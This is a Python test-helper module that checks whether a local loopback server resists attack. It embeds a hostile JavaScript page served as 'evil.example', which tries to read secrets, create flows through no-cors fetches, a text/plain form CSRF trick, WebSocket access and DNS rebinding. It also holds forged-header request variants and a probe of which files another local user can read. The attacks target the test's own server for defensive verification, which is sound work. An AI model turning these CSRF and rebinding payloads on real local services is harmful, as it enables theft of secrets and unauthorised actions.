"""Who should get nothing from the server on loopback: a page of another origin in Chromium, forged requests, another user.

Each tries the same wherever it is sent, so that a server without a guard shows that the attempt works.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import traceback
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager, suppress
from pathlib import Path
from queue import Queue
from typing import Any, NamedTuple

import httpx
import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, Response
from starlette.routing import Route
from websockets.sync.client import connect
from websockets.sync.connection import Connection

from loadmaster.clients.serving import serving
from tests.kit.waiting import PATIENCE, eventually, told_to

NOBODY = 65534
FOREIGN = "evil.example"
REBOUND = "rebound.example"
"""Two names that the browser takes for this machine."""

PAGE = """<!doctype html><title>A page of somebody else's</title><body><script>
const target = "TARGET", rebound = "REBOUND", mark = "MARK", found = {};
const asJson = (base, path, body) => fetch(base + "/api" + path,
  {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body)}).then(got => got.text());
const unasked = (path, body) => fetch(target + "/api" + path,
  {method: "POST", mode: "no-cors", credentials: "include", body: body}).then(got => got.type);
const flow = name => JSON.stringify({name: mark + "-" + name});
const attempts = {
  "list": () => asJson(target, "/flows/filter", {}),
  "read secrets": () => asJson(target, "/block_documents/filter", {include_secrets: true}),
  "start": () => asJson(target, "/flows/", {name: mark + "-json"}),
  "start without a content type": () => unasked("/flows/", new Blob([flow("blob")])),
  "start as plain text": () => unasked("/flows/", flow("text")),
  "list by another name": () => asJson(rebound, "/flows/filter", {}),
  "listen": () => new Promise((done, fail) => {
    const socket = new WebSocket(target.replace("http", "ws") + "/api/events/in");
    socket.onopen = () => done("opened");
    socket.onerror = () => fail("closed");
  }),
  "show an image": () => new Promise((done, fail) => {
    const image = new Image();
    image.onload = () => done("shown");
    image.onerror = () => fail("not shown");
    image.src = target + "/ico/favicon.ico";
  }),
  "send a form": () => new Promise(done => {
    document.body.insertAdjacentHTML("beforeend", `<iframe name="sink"></iframe><form target="sink" method="post"
      enctype="text/plain" action="${target}/api/flows/"><input name='{"name": "${mark}-form", "tags": ["' value='"]}'></form>`);
    document.querySelector("iframe").onload = () => done("sent");
    document.querySelector("form").submit();
  }),
};
(async () => {
  for (const [name, attempt] of Object.entries(attempts)) {
    try { found[name] = String(await attempt()); } catch (error) { found[name] = "failed: " + error; }
  }
  await fetch("/told", {method: "POST", body: JSON.stringify(found)});
})();
</script>"""


def require_chromium() -> str:
    """Its path. Skips the test where there is none; with `LOADMASTER_BROWSER=required`, as in CI, it fails."""
    if (program := shutil.which("chromium")) is not None:
        return program
    if os.environ.get("LOADMASTER_BROWSER") == "required":
        pytest.fail("there is no chromium, and LOADMASTER_BROWSER says that there has to be one")
    pytest.skip("there is no chromium; install Debian's package `chromium`")


@contextmanager
def chromium(place: Path, *arguments: str, **streams: Any) -> Iterator[subprocess.Popen[str]]:
    """A browser without a screen, with a profile of its own in `place`, which knows `FOREIGN` and `REBOUND`. Ended at last."""
    command = [
        require_chromium(),
        *("--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-dev-shm-usage"),
        f"--user-data-dir={place / 'browser'}",
        f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1, MAP {REBOUND} 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1",
        *arguments,
    ]
    streams = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL, **streams}
    process = subprocess.Popen(command, start_new_session=True, text=True, **streams)
    try:
        yield process
    finally:
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)
        process.wait(timeout=PATIENCE)


def what_a_page_gets(target: str, mark: str, place: Path) -> Mapping[str, str]:
    """What a page of `FOREIGN` gets from `target`, an address `http://127.0.0.1:PORT`, by attempt.

    `mark`: the beginning of the names of all that it makes there.
    """
    told: Queue[dict[str, str]] = Queue()
    rebound = target.replace("127.0.0.1", REBOUND)
    text = PAGE.replace("TARGET", target).replace("REBOUND", rebound, 1).replace("MARK", mark, 1)

    async def page(_: Request) -> HTMLResponse:
        return HTMLResponse(text)

    async def hear(request: Request) -> Response:
        told.put(json.loads(await request.body()))
        return Response()

    site = Starlette(routes=[Route("/", page), Route("/told", hear, methods=["POST"])])
    with serving(site) as address, chromium(place, address.replace("127.0.0.1", FOREIGN)):
        return told_to(told, f"the page told what it got from {target}")


def page_by_another_name(target: str, place: Path) -> str:
    """What the browser shows of the target's own page, opened by a name that was made to resolve to this machine."""
    address = target.replace("127.0.0.1", REBOUND)
    with chromium(place, "--dump-dom", "--virtual-time-budget=5000", address, stdout=subprocess.PIPE) as process:
        return process.communicate(timeout=PATIENCE)[0]


class Forged(NamedTuple):
    """A request that makes a flow, if it is believed."""

    name: str
    headers: Mapping[str, str]
    body: str = '{"name": "MARK"}'
    works_unguarded: bool = True


JSON = {"content-type": "application/json"}
FORGED = (
    Forged("nothing but the request", JSON),
    Forged("another host", JSON | {"host": f"{FOREIGN}:80"}),
    Forged("another port", JSON | {"host": "127.0.0.1:1"}),
    Forged("another origin", JSON | {"origin": f"http://{FOREIGN}"}),
    Forged("no origin of a page", JSON | {"origin": "null"}),
    Forged("a page of another port", JSON | {"sec-fetch-site": "same-site"}),
    Forged("no content type", {}),
    Forged("plain text", {"content-type": "text/plain"}, works_unguarded=False),
    Forged("a form", {"content-type": "application/x-www-form-urlencoded"}, "name=MARK", works_unguarded=False),
)


def send(forged: Forged, target: str, mark: str, more: Mapping[str, str]) -> httpx.Response:
    """Sends it with `more` headers, such as those of somebody who is signed in."""
    body = forged.body.replace("MARK", mark).encode()
    return httpx.post(
        f"{target}/api/flows/", content=body, headers={**forged.headers, **more}, trust_env=False, timeout=30
    )


def as_nobody(work: Callable[[], Any]) -> Any:
    """What `work` returns, as JSON, when another user of this machine does it; raises with what it raised. Only root can ask."""
    if os.geteuid() != 0:
        pytest.skip("only root can be another user")
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        try:
            os.setgroups([])
            os.setresgid(NOBODY, NOBODY, NOBODY)
            os.setresuid(NOBODY, NOBODY, NOBODY)
            told = json.dumps({"result": work()})
        except BaseException:  # noqa: BLE001 - the parent raises it
            told = json.dumps({"raised": traceback.format_exc()})
        with os.fdopen(writing, "w") as sink:
            sink.write(told)
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading) as answer:
        text = answer.read()
    os.waitpid(child, 0)
    told = json.loads(text)
    assert "raised" not in told, told["raised"]
    return told["result"]


def files_that_can_be_read(home: Path) -> list[str]:
    """Paths below `home`, among them every file that opens for reading."""
    found = []
    for root, _, files in os.walk(home):
        for name in files:
            path = Path(root, name)
            with suppress(OSError), path.open("rb") as file:
                file.read(1)
                found.append(str(path.relative_to(home)))
    return sorted(found)


class Tab:
    """A page in a browser, as a person uses it: opened, read, typed into."""

    def __init__(self, socket: Connection) -> None:
        self._socket, self._calls = socket, 0

    def open(self, address: str) -> None:
        self._call("Page.navigate", url=address)

    def await_text(self, wanted: str) -> None:
        eventually(
            lambda: wanted in self._value("document.body ? document.body.innerText : ''"), f"it shows `{wanted}`"
        )

    def type_into(self, field: str, text: str) -> None:
        """Types into the field that the CSS selector finds, and presses Enter."""
        eventually(lambda: bool(self._value(f"!!document.querySelector({field!r})")), f"there is a field `{field}`")
        self._value(f"document.querySelector({field!r}).focus()")
        self._call("Input.insertText", text=text)
        for kind in ("keyDown", "keyUp"):
            self._call("Input.dispatchKeyEvent", type=kind, key="Enter", text="\r", windowsVirtualKeyCode=13)

    def _value(self, expression: str) -> Any:
        return self._call("Runtime.evaluate", expression=expression, returnByValue=True).get("result", {}).get("value")

    def _call(self, method: str, **parameters: object) -> dict[str, Any]:
        self._calls += 1
        self._socket.send(json.dumps({"id": self._calls, "method": method, "params": parameters}))
        while True:
            answer = json.loads(self._socket.recv(timeout=PATIENCE))
            if answer.get("id") == self._calls:
                return dict(answer.get("result", {}))


@contextmanager
def tab(place: Path) -> Iterator[Tab]:
    """An empty page of a browser that nobody has used before."""
    ports = place / "browser" / "DevToolsActivePort"
    with chromium(place, "--remote-debugging-port=0", "about:blank"):
        eventually(lambda: ports.exists() and "\n" in ports.read_text(), "the browser said where it listens")
        listing = f"http://127.0.0.1:{ports.read_text().splitlines()[0]}/json"
        (page,) = [
            each for each in httpx.get(listing, trust_env=False, timeout=PATIENCE).json() if each["type"] == "page"
        ]
        with connect(page["webSocketDebuggerUrl"], max_size=None) as socket:
            yield Tab(socket)
